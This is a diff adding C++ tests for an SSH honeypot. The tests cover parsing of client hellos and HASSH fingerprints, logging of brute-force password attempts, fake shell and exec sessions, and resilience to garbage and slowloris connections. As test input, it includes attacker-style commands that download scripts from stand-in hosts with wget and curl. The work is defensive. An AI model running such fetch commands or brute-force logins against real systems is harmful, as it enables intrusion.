@@ -5,6 +5,7 @@
 
 #include <arpa/inet.h>
 #include <gtest/gtest.h>
+#include <libssh/libssh.h>
 #include <netinet/in.h>
 #include <openssl/evp.h>
 #include <sys/socket.h>
@@ -20,6 +21,7 @@
 #include "sensors/honeypot/mysql/mysql.h"
 #include "sensors/honeypot/redis/redis.h"
 #include "sensors/honeypot/shell/shell.h"
+#include "sensors/honeypot/ssh/client_hello.h"
 #include "sensors/honeypot/telnet/telnet.h"
 #include "sensors/honeypot/vnc/vnc.h"
 
@@ -636,6 +638,213 @@ TEST_F(HoneypotFixture, VncLogsChallengeAndResponseIn38And33) {
   EXPECT_EQ(field(evs[1], "password"), vnc::john_notation(c33.substr(4), std::string(16, 'z')));
   EXPECT_EQ(field(evs[1], "client_version"), "RFB 003.003");
   EXPECT_EQ(vnc::john_notation("\x01\xab", "\xff"), "$vnc$*01AB*FF");
+}
+
+std::string ssh_string(std::string_view s) {
+  std::string out;
+  for (int i = 3; i >= 0; --i) out.push_back(static_cast<char>((s.size() >> (8 * i)) & 0xff));
+  return out.append(s);
+}
+
+TEST(SshClientHello, ReadsIdentAndKexinitAndComputesHassh) {
+  std::string payload(1, '\x14');
+  payload += std::string(16, 'c');
+  for (const char* l : {"curve25519-sha256,ecdh-sha2-nistp256", "ssh-ed25519", "aes128-ctr",
+                        "aes256-ctr", "hmac-sha2-256", "hmac-sha1", "none", "zlib", "", ""})
+    payload += ssh_string(l);
+  payload += std::string(5, '\0');
+  size_t pad = 8 - ((5 + payload.size()) % 8);
+  if (pad < 4) pad += 8;
+  std::string packet =
+      ssh_string(std::string(1, static_cast<char>(pad)) + payload + std::string(pad, '\0'));
+  std::string hello = "SSH-2.0-Go\r\n" + packet;
+  ssh::ClientHello h;
+  EXPECT_EQ(ssh::parse_client_hello("SSH-2.0-G", h), ssh::HelloParse::kIncomplete);
+  EXPECT_EQ(ssh::parse_client_hello(hello.substr(0, 20), h), ssh::HelloParse::kIdentOnly);
+  ASSERT_EQ(ssh::parse_client_hello(hello, h), ssh::HelloParse::kComplete);
+  EXPECT_EQ(h.ident, "SSH-2.0-Go");
+  EXPECT_EQ(h.kex_algorithms(), "curve25519-sha256,ecdh-sha2-nistp256");
+  EXPECT_EQ(h.hassh_algorithms,
+            "curve25519-sha256,ecdh-sha2-nistp256;aes128-ctr;hmac-sha2-256;none");
+  EXPECT_EQ(h.hassh, "88189635a3ee7c7f0c02224b7a2e1292");  // hashlib.md5 of the line above
+  // Garbage, an SSH-1 client, a packet that is not KEXINIT, an oversized length.
+  EXPECT_EQ(ssh::parse_client_hello(std::string(2000, 'x'), h), ssh::HelloParse::kInvalid);
+  EXPECT_EQ(ssh::parse_client_hello("SSH-1.5-old\r\n", h), ssh::HelloParse::kInvalid);
+  std::string not_kex = hello;
+  not_kex[12 + 5] = 21;
+  EXPECT_EQ(ssh::parse_client_hello(not_kex, h), ssh::HelloParse::kInvalid);
+  EXPECT_EQ(ssh::parse_client_hello("SSH-2.0-x\r\n\x7f\xff\xff\xff\x04", h),
+            ssh::HelloParse::kInvalid);
+}
+
+// A libssh client session to the honeypot's SSH service (host key not checked).
+struct SshClient {
+  explicit SshClient(uint16_t port) : s(ssh_new()) {
+    int p = port;
+    long timeout = 5;
+    bool no = false;
+    ssh_options_set(s, SSH_OPTIONS_HOST, "127.0.0.1");
+    ssh_options_set(s, SSH_OPTIONS_PORT, &p);
+    ssh_options_set(s, SSH_OPTIONS_TIMEOUT, &timeout);
+    ssh_options_set(s, SSH_OPTIONS_PROCESS_CONFIG, &no);
+    connected = ssh_connect(s) == SSH_OK;
+  }
+  ~SshClient() {
+    ssh_disconnect(s);
+    ssh_free(s);
+  }
+  int password(const char* user, const char* pw) { return ssh_userauth_password(s, user, pw); }
+  ssh_session s;
+  bool connected = false;
+};
+
+TEST_F(HoneypotFixture, SshLogsEveryPasswordWithClientVersionAndHassh) {
+  settings_.max_attempts = 3;
+  start({"ssh"});
+  run();
+  {
+    SshClient c(ports_["ssh"]);
+    ASSERT_TRUE(c.connected) << ssh_get_error(c.s);
+    EXPECT_EQ(c.password("root", "123456"), SSH_AUTH_DENIED);
+    EXPECT_EQ(c.password("root", "p\xc3\xa4ss w\xff"), SSH_AUTH_DENIED);
+    EXPECT_EQ(c.password("admin", "admin"), SSH_AUTH_DENIED);
+    EXPECT_EQ(c.password("admin", "never"), SSH_AUTH_ERROR);  // disconnected after 3
+  }
+  {
+    SshClient c(ports_["ssh"]);
+    ASSERT_TRUE(c.connected);
+    EXPECT_EQ(c.password("oracle", ""), SSH_AUTH_DENIED);
+  }
+  auto evs = of_service(events(), "ssh");
+  ASSERT_EQ(evs.size(), 4u);
+  EXPECT_EQ(field(evs[0], "username"), "root");
+  EXPECT_EQ(field(evs[0], "password"), "123456");
+  EXPECT_EQ(field(evs[1], "password"), "p\xc3\xa4ss w\\xff");
+  EXPECT_EQ(field(evs[2], "username"), "admin");
+  EXPECT_EQ(field(evs[3], "username"), "oracle");
+  EXPECT_EQ(field(evs[3], "password"), "");
+  for (const auto& e : evs) {
+    EXPECT_EQ(field(e, "client_version").substr(0, 15), "SSH-2.0-libssh_");
+    EXPECT_EQ(field(e, "version").size(), 32u);  // HASSH
+    EXPECT_EQ(field(e, "version"), field(evs[0], "version"));
+    EXPECT_EQ(field(e, "tag"), "ssh-brute-force");
+  }
+  EXPECT_NE(field(evs[0], "event_id").substr(0, 16), field(evs[3], "event_id").substr(0, 16));
+  auto st = (*hp_)->host().status();
+  EXPECT_EQ(st["services"]["ssh"]["password_attempts"], 4);
+  EXPECT_EQ(st["services"]["ssh"]["closed"]["max_attempts"], 1);
+  ASSERT_EQ(st["services"]["ssh"]["hassh"].size(), 1u);
+  EXPECT_EQ(st["services"]["ssh"]["hassh"][0]["hassh"], field(evs[0], "version"));
+  EXPECT_EQ(st["services"]["ssh"]["hassh"][0]["connections"], 2);
+  bool listed = false;
+  for (const auto& l : st["listeners"])
+    listed |= l["service"] == "ssh" && l["listen"] == "127.0.0.1:" + std::to_string(ports_["ssh"]);
+  EXPECT_TRUE(listed);
+  // The generated host keys are in the state directory, private.
+  for (const char* k : {"ssh_host_ed25519_key", "ssh_host_ecdsa_key", "ssh_host_rsa_key"}) {
+    fs::path p = dir_ / "state" / "ssh" / k;
+    ASSERT_TRUE(fs::exists(p)) << p;
+    EXPECT_EQ(fs::status(p).permissions() & fs::perms::all,
+              fs::perms::owner_read | fs::perms::owner_write);
+  }
+}
+
+std::string read_channel(ssh_channel ch, std::string_view until = {}) {
+  std::string out;
+  char buf[4096];
+  for (;;) {
+    int n = ssh_channel_read_timeout(ch, buf, sizeof buf, 0, 5000);
+    if (n <= 0) break;
+    out.append(buf, static_cast<size_t>(n));
+    if (!until.empty() && out.find(until) != std::string::npos) break;
+  }
+  return out;
+}
+
+TEST_F(HoneypotFixture, SshMediumModeExecAndShellLogUrlsAndFetchNothing) {
+  settings_.mode = "medium";
+  start({"ssh"});
+  run();
+  {
+    SshClient c(ports_["ssh"]);
+    ASSERT_TRUE(c.connected);
+    EXPECT_EQ(c.password("root", "root"), SSH_AUTH_SUCCESS);
+    ssh_channel ch = ssh_channel_new(c.s);
+    ASSERT_EQ(ssh_channel_open_session(ch), SSH_OK);
+    ASSERT_EQ(ssh_channel_request_exec(ch, "wget http://198.51.100.7/a.sh; uname -m"), SSH_OK);
+    std::string out = read_channel(ch);
+    EXPECT_NE(out.find("x86_64"), std::string::npos) << out;
+    ssh_channel_free(ch);
+  }
+  {
+    SshClient c(ports_["ssh"]);
+    ASSERT_TRUE(c.connected);
+    EXPECT_EQ(c.password("admin", "1234"), SSH_AUTH_SUCCESS);
+    ssh_channel ch = ssh_channel_new(c.s);
+    ASSERT_EQ(ssh_channel_open_session(ch), SSH_OK);
+    ASSERT_EQ(ssh_channel_request_pty(ch), SSH_OK);
+    ASSERT_EQ(ssh_channel_request_shell(ch), SSH_OK);
+    EXPECT_NE(read_channel(ch, "$ ").find("admin@server:~$ "), std::string::npos);
+    std::string cmd = "curl -o /tmp/b https://evil.example/b; whoami\n";
+    ssh_channel_write(ch, cmd.data(), static_cast<uint32_t>(cmd.size()));
+    std::string out = read_channel(ch, "admin\r\n");
+    EXPECT_NE(out.find("Could not resolve host: evil.example"), std::string::npos) << out;
+    ssh_channel_write(ch, "exit\n", 5);
+    read_channel(ch);
+    ssh_channel_free(ch);
+  }
+  auto evs = of_service(events(), "ssh");
+  ASSERT_EQ(evs.size(), 4u);
+  EXPECT_EQ(field(evs[0], "tag"), "ssh-login");
+  EXPECT_EQ(field(evs[1], "tag"), "ssh-payload");
+  EXPECT_EQ(field(evs[1], "payload_url"), "http://198.51.100.7/a.sh");
+  EXPECT_EQ(field(evs[2], "tag"), "ssh-login");
+  EXPECT_EQ(field(evs[2], "username"), "admin");
+  EXPECT_EQ(field(evs[3], "payload_url"), "https://evil.example/b");
+  EXPECT_EQ((*hp_)->host().status()["services"]["ssh"]["logins"], 2);
+}
+
+TEST_F(HoneypotFixture, LoginServicesSurviveGarbageHalfOpenAndSlowloris) {
+  settings_.idle_timeout = 1s;
+  start({"ssh", "telnet", "ftp", "mysql", "vnc"});
+  run();
+  std::string garbage;
+  for (int i = 0; i < 4096; ++i) garbage.push_back(static_cast<char>((i * 7919) & 0xff));
+  for (const auto& name : {"ssh", "telnet", "ftp", "mysql", "vnc"}) {
+    // Garbage: answered or closed, never a crash.
+    int g = connect_to(name);
+    (void)!::send(g, garbage.data(), garbage.size(), MSG_NOSIGNAL);
+    EXPECT_TRUE(closed_by_peer(g)) << name;
+    ::close(g);
+    // Half-open (connected, silent) and slowloris (a byte now and then, never a whole
+    // message): both closed by the idle timeout or the input bounds.
+    int idle = connect_to(name);
+    auto t0 = std::chrono::steady_clock::now();
+    EXPECT_TRUE(closed_by_peer(idle)) << name;
+    EXPECT_LT(std::chrono::steady_clock::now() - t0, 4s) << name;
+    ::close(idle);
+  }
+  // A valid attempt after all that is still logged: the services are alive.
+  SshClient c(ports_["ssh"]);
+  ASSERT_TRUE(c.connected);
+  EXPECT_EQ(c.password("after", "garbage"), SSH_AUTH_DENIED);
+  // Garbage made rows only where any line is a login (telnet); the rest logged nothing.
+  auto evs = events();
+  int after = 0;
+  for (const auto& e : evs) {
+    if (field(e, "application") == "ssh") {
+      ++after;
+      EXPECT_EQ(field(e, "username"), "after");
+    } else {
+      EXPECT_EQ(field(e, "application"), "telnet");
+    }
+  }
+  EXPECT_EQ(after, 1);
+  auto st = (*hp_)->host().status();
+  EXPECT_GE(st["services"]["ssh"]["kex_failed"].get<int>() +
+                st["services"]["ssh"]["hello_unparsed"].get<int>(),
+            1);
+  EXPECT_GE(st["services"]["ssh"]["closed"]["idle_timeout"].get<int>(), 1);
 }
 
 }  // namespace
